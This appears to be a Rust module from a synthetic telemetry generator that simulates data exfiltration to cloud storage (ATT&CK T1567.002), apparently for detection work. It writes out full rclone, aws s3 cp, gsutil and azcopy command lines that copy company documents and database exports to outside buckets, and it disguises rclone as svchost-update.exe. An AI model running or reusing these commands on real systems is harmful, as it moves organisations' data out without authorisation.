//! T1567.002 with cloud-storage tools: rclone to MEGA (also renamed),
//! rclone and the AWS CLI to a stranger's S3 bucket, gsutil, azcopy.

use super::{home, meta, pick_host, shell, tool, work_time, Meta, Window, MB};
use crate::clock::SEC;
use crate::scene::Scene;
use crate::world::{Os, Role};

fn mega(sc: &mut Scene, win: Window, renamed: bool) -> Option<Meta> {
    let h = pick_host(sc, Os::Windows, &[Role::Staff])?;
    let t = work_time(sc, win, 2 * crate::clock::HOUR);
    let home = home(sc, h);
    let folder = *sc.rng.pick(&[
        "Documents\\Finance",
        "Documents\\Clients",
        "Desktop\\Projects",
    ]);
    let sh = shell(sc, h, t, false);
    let (image, title) = if renamed {
        (
            "C:\\ProgramData\\Microsoft\\Crypto\\svchost-update.exe".to_string(),
            "renamed rclone (OriginalFileName rclone.exe) copies documents to MEGA",
        )
    } else {
        (
            format!("{home}\\Downloads\\rclone-v1.68.2-windows-amd64\\rclone.exe"),
            "rclone copies documents to MEGA",
        )
    };
    let cmd = format!("\"{image}\" copy \"{home}\\{folder}\" remote:backup --transfers 4 --multi-thread-streams 2 -q --config C:\\ProgramData\\rc.conf");
    let p = tool(sc, h, t + 20 * SEC, &sh, &image, &cmd, Some("rclone.exe"));
    let api = sc.resolve(t + 21 * SEC, h, Some(&p), "g.api.mega.co.nz");
    sc.connect(
        t + 22 * SEC,
        h,
        Some(&p),
        &api,
        18_000,
        42_000,
        3 * SEC,
        None,
    );
    let bytes = sc.rng.range(300, 1800) * MB;
    let parts = sc.rng.range(4, 9);
    sc.upload(
        t + 25 * SEC,
        h,
        &p,
        "gfs270n112.userstorage.mega.co.nz",
        bytes,
        parts,
        2 * SEC,
        None,
        443,
    );
    Some(meta(
        sc,
        h,
        title.into(),
        "T1567.002",
        "rclone",
        "cloud-storage-tool",
        "mega.co.nz",
        "MEGA",
    ))
}

pub fn rclone_mega(sc: &mut Scene, win: Window) -> Option<Meta> {
    mega(sc, win, false)
}

pub fn rclone_renamed(sc: &mut Scene, win: Window) -> Option<Meta> {
    mega(sc, win, true)
}

fn stranger_bucket(sc: &mut Scene) -> String {
    format!(
        "{}-{}",
        sc.rng.pick(&["xfer", "bkp-store", "datasync", "arch"]),
        sc.rng.range(1000, 99_999)
    )
}

pub fn rclone_s3(sc: &mut Scene, win: Window) -> Option<Meta> {
    let h = pick_host(sc, Os::Linux, &[])?;
    let t = work_time(sc, win, 2 * crate::clock::HOUR);
    let bucket = stranger_bucket(sc);
    let sh = shell(sc, h, t, false);
    let cmd =
        format!("rclone copy /srv/data s3drop:{bucket}/dump --s3-provider AWS --transfers 8 -q");
    let p = tool(
        sc,
        h,
        t + 10 * SEC,
        &sh,
        "/usr/local/bin/rclone",
        &cmd,
        None,
    );
    let domain = format!("{bucket}.s3.amazonaws.com");
    let bytes = sc.rng.range(500, 3000) * MB;
    let parts = sc.rng.range(6, 12);
    sc.upload(t + 12 * SEC, h, &p, &domain, bytes, parts, SEC, None, 443);
    Some(meta(
        sc,
        h,
        format!("rclone copies /srv/data to an external S3 bucket {bucket}"),
        "T1567.002",
        "rclone",
        "cloud-storage-tool",
        &domain,
        "Amazon S3 (external account)",
    ))
}

pub fn aws_s3_cp(sc: &mut Scene, win: Window) -> Option<Meta> {
    let h = pick_host(sc, Os::Linux, &[Role::Admin, Role::Developer])?;
    let t = work_time(sc, win, crate::clock::HOUR);
    let bucket = stranger_bucket(sc);
    let sh = shell(sc, h, t, false);
    let file = format!(
        "/tmp/{}.tar.gz",
        sc.rng.pick(&["db-export", "customers", "prod-snapshot"])
    );
    let cmd = format!("aws s3 cp {file} s3://{bucket}/ --profile personal");
    let p = tool(sc, h, t + 8 * SEC, &sh, "/usr/local/bin/aws", &cmd, None);
    let domain = format!("{bucket}.s3.amazonaws.com");
    let bytes = sc.rng.range(200, 2500) * MB;
    sc.upload(t + 9 * SEC, h, &p, &domain, bytes, 1, 0, None, 443);
    Some(meta(
        sc,
        h,
        format!("aws s3 cp of an archive to external bucket {bucket} (personal profile)"),
        "T1567.002",
        "aws-cli",
        "cloud-storage-tool",
        &domain,
        "Amazon S3 (external account)",
    ))
}

pub fn gsutil(sc: &mut Scene, win: Window) -> Option<Meta> {
    let h = pick_host(sc, Os::Linux, &[])?;
    let t = work_time(sc, win, crate::clock::HOUR);
    let bucket = format!("gs-drop-{}", sc.rng.range(100, 9999));
    let sh = shell(sc, h, t, false);
    let cmd = format!("gsutil -m cp -r /srv/data/exports gs://{bucket}/");
    let p = tool(
        sc,
        h,
        t + 5 * SEC,
        &sh,
        "/usr/lib/google-cloud-sdk/platform/gsutil/gsutil",
        &cmd,
        None,
    );
    let bytes = sc.rng.range(150, 1500) * MB;
    let parts = sc.rng.range(3, 7);
    sc.upload(
        t + 6 * SEC,
        h,
        &p,
        "storage.googleapis.com",
        bytes,
        parts,
        SEC,
        None,
        443,
    );
    Some(meta(
        sc,
        h,
        format!("gsutil copies exports to gs://{bucket}"),
        "T1567.002",
        "gsutil",
        "cloud-storage-tool",
        "storage.googleapis.com",
        "Google Cloud Storage",
    ))
}

pub fn azcopy(sc: &mut Scene, win: Window) -> Option<Meta> {
    let h = pick_host(sc, Os::Windows, &[Role::Admin, Role::Developer])?;
    let t = work_time(sc, win, crate::clock::HOUR);
    let acct = format!("stg{}", sc.rng.hex(8));
    let domain = format!("{acct}.blob.core.windows.net");
    let home = home(sc, h);
    let sh = shell(sc, h, t, true);
    let cmd = format!("\"{home}\\Downloads\\azcopy.exe\" copy \"{home}\\Documents\\*\" \"https://{domain}/drop?sv=2023-11-03&ss=b&sig=REDACTED\" --recursive");
    let p = tool(
        sc,
        h,
        t + 7 * SEC,
        &sh,
        &format!("{home}\\Downloads\\azcopy.exe"),
        &cmd,
        Some("azcopy.exe"),
    );
    let bytes = sc.rng.range(200, 1200) * MB;
    let parts = sc.rng.range(3, 6);
    sc.upload(t + 8 * SEC, h, &p, &domain, bytes, parts, SEC, None, 443);
    Some(meta(
        sc,
        h,
        format!("azcopy copies documents to Azure blob account {acct}"),
        "T1567.002",
        "azcopy",
        "cloud-storage-tool",
        &domain,
        "Azure Blob Storage (external)",
    ))
}
